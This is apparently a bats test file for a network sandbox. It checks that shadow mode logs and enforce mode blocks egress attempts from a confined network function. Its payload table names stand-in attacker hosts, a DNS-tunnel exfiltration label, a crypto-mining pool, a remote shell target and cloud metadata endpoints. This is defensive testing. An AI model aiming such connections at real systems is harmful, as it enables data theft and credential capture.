# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034,SC2154
# What somebody tries by the network who has a function in his hand that talks to one peer: in each mode, with the
# function's own work after it.

load helpers
load network

setup() {
	network_setup
	# Where attackers and the insides of clouds are, somebody answers.
	local place
	for place in 203.0.113.{7,9,10,11} 8.8.8.8 10.1.2.3 192.168.7.7 169.254.170.2; do
		ip -n "$SERVER_NS" addr add "$place/32" dev lo
	done
	for place in fd00:ec2::254 2001:db8::7; do
		ip -n "$SERVER_NS" addr add "$place/128" dev lo nodad
	done
	ip -n "$CLIENT_NS" route add default via fd99::1
	resolver_setup 10.99.0.1 8.8.8.8 203.0.113.7
	echo 93.184.216.34 >"$T/asked.flip"
	husk_setup 'shadow_after_runs = 50'
	client_bundle victim
	echo 'nameserver 10.99.0.1' >"$(jq -r .root.path "$BUNDLE/config.json")/etc/resolv.conf"
}

teardown() {
	exec 7>&-
	husk_teardown
	network_teardown
}

LEGITIMATE=('tcp flip.example.test 8000' 'local 9100')

# payload | what it is without husk | what in enforce | key of the event
attacks() {
	cat <<-'ATTACKS'
		tcp 203.0.113.7 8001|ok|ECONNREFUSED|tcp 203.0.113.7:8001
		udp 10.99.0.1 9001|ok|EPERM|udp 10.99.0.1:9001
		child tcp 203.0.113.7 8000|ok|ECONNREFUSED|tcp 203.0.113.7:8000
		tcp 2001:db8::7 8001|ok|ECONNREFUSED|tcp [2001:db8::7]:8001
		tcp ::ffff:203.0.113.9 8000|ok|ECONNREFUSED|tcp 203.0.113.9:8000
		icmp 203.0.113.7|ok|EPERM|icmp 203.0.113.7
		tcp flip.example.test 8001|ok|ECONNREFUSED|tcp flip.example.test:8001
		tcp exfil.evil.test 8000|ok|[Errno -3]|exfil.evil.test
		ask 8.8.8.8 a.example.test|code 0|code 5|8.8.8.8
		ask 203.0.113.7 secret.evil.test|code 0|code 5|203.0.113.7
		look c2vjcmv0lxrva2vulte5mjkyng.evil.test|2606|[Errno -3]|c2vjcmv0lxrva2vulte5mjkyng.evil.test
		look a1.b2.c3.flip.example.test|2606|[Errno -3]|a1.b2.c3.flip.example.test
		look dns.google|2606|[Errno -3]|dns.google
		tcp 8.8.8.8 8000|ok|ECONNREFUSED|tcp 8.8.8.8:8000
		tcp xmr.nanopool.org 8000|ok|[Errno -3]|xmr.nanopool.org
		hold 203.0.113.10 8000|ok|ECONNREFUSED|tcp 203.0.113.10:8000
		child tcp 127.0.0.1 9001|ECONNREFUSED|ECONNREFUSED|tcp loopback:9001
		tcp ::1 9002|ECONNREFUSED|ECONNREFUSED|tcp loopback:9002
		tcp 169.254.169.254 8000|ok|ECONNREFUSED|tcp 169.254.169.254:8000
		tcp 169.254.170.2 8000|ok|ECONNREFUSED|tcp 169.254.170.2:8000
		tcp fd00:ec2::254 8000|ok|ECONNREFUSED|tcp [fd00:ec2::254]:8000
		tcp 10.1.2.3 8000|ok|ECONNREFUSED|tcp 10.1.2.3:8000
		tcp 192.168.7.7 8000|ok|ECONNREFUSED|tcp 192.168.7.7:8000
		look metadata.google.internal|2606|[Errno -3]|metadata.google.internal
		shell 203.0.113.11 8000|ok|ECONNREFUSED|tcp 203.0.113.11:8000
	ATTACKS
}

# attacked COLUMN EVENT: each payload in a run of its own, then the function's own work
attacked() {
	local column=$1 kind=$2 payload native refused key expected count=0
	while IFS='|' read -r payload native refused key; do
		expected=$native
		[ "$column" = native ] || expected=$refused
		: >"$EVENTS"
		client 0 "$payload"
		output_has "$payload: $expected"
		[ "$(event_count '.event == "'"$kind"'" and .key == "'"$key"'"')" -eq 1 ] ||
			fail "$payload: not one event $kind: $(tail -n 3 "$EVENTS")"
		: >"$EVENTS"
		client 0 "${LEGITIMATE[@]}"
		output_has 'tcp flip.example.test 8000: ok'
		output_has 'local 9100: ok'
		no_event '.event == "'"$kind"'"'
		count=$((count + 1))
	done < <(attacks)
	[ "$count" -ge 25 ]
}

@test "in shadow attacks by the network work, and are one event each" {
	learn_peers "${LEGITIMATE[@]}"
	husk mode --domain net victim shadow
	husk mode --domain dns victim shadow
	attacked native would-deny
	nothing_left
}

@test "in enforce attacks by the network are stopped, with one event each, and nothing gets out" {
	learn_peers "${LEGITIMATE[@]}"
	husk mode --domain net victim enforce
	husk mode --domain dns victim enforce
	: >"$T/asked"
	: >"$T/served"
	attacked refused denied
	[ "$(cut -d' ' -f3 "$T/asked" | sort -u)" = flip.example.test ]
	[ "$(sort -u "$T/served")" = "tcp 8000 ::ffff:10.99.0.2" ]
	nothing_left
}
